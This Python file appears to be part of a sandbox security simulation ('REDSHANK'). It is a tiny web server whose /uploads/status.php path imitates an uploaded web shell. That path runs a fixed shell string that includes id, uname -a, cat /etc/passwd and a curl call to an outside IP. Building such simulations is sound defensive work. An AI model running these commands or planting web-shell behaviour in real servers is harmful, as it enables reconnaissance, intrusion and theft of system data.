"""A web server of the sandbox host, as small as can be: run by itself, it takes its listening socket as standard input.

One page of it, the uploaded one, runs four commands through a shell, always the same: what a web shell is there for.
REDSHANK SIMULATION: this file is copied into the sandbox host and run there as www-data.
"""

import socket
import subprocess
import sys

UPLOADED = "/uploads/status.php"
COMMANDS = "id; uname -a; cat /etc/passwd; curl -s -m 2 http://198.51.100.23:8080/list"
_MOST = 4096


def main() -> None:
    """Answer until the socket is closed."""
    with socket.socket(fileno=sys.stdin.fileno()) as door:
        while True:
            visitor, _ = door.accept()
            with visitor:
                answer(visitor)


def answer(visitor: socket.socket) -> None:
    """Answer one request."""
    visitor.settimeout(5)
    words = visitor.recv(_MOST).split(b" ")
    path = words[1].decode(errors="replace").partition("?")[0] if len(words) > 1 else "/"
    body = run_page() if path == UPLOADED else b"It works.\n"
    visitor.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))


def run_page() -> bytes:
    """What the uploaded page shows: the output of its commands."""
    done = subprocess.run(["/bin/sh", "-c", COMMANDS], check=False, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=10)
    return done.stdout


if __name__ == "__main__":
    main()
